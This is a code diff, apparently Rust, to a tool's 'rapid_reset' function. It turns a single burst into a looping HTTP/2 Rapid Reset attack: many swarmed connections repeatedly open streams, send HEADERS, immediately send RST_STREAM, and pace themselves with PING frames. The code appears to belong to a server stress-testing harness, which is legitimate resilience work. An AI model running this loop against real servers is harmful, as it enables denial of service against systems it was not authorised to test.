@@ -21,16 +21,22 @@ const RESETS: u32 = 8;
 const UNKNOWN: u8 = 0x7f;
 
 pub async fn rapid_reset(ground: Arc<Ground>) {
-    let burst = |http2: &mut Http2, _| {
-        let mut frames = Vec::new();
-        for _ in 0..RESETS {
-            let stream = http2.new_stream();
-            frames.extend(frame(HEADERS, END_HEADERS, stream, &review_header(100)));
-            frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+    let client = |ground, _| async move {
+        let mut http2 = Http2::open(ground, &[]).await?;
+        loop {
+            let mut frames = Vec::new();
+            for _ in 0..RESETS {
+                let stream = http2.new_stream();
+                frames.extend(frame(HEADERS, END_HEADERS, stream, &review_header(100)));
+                frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+            }
+            // Its answer says that the resets have been looked at.
+            frames.extend(frame(PING, 0, 0, &[0; 8]));
+            http2.send(&frames).await?;
+            while http2.step().await? != PING {}
         }
-        frames
     };
-    flood(ground, burst).await;
+    ground.swarm(CONNECTIONS, client).await;
 }
 
 pub async fn settings_and_ping(ground: Arc<Ground>) {
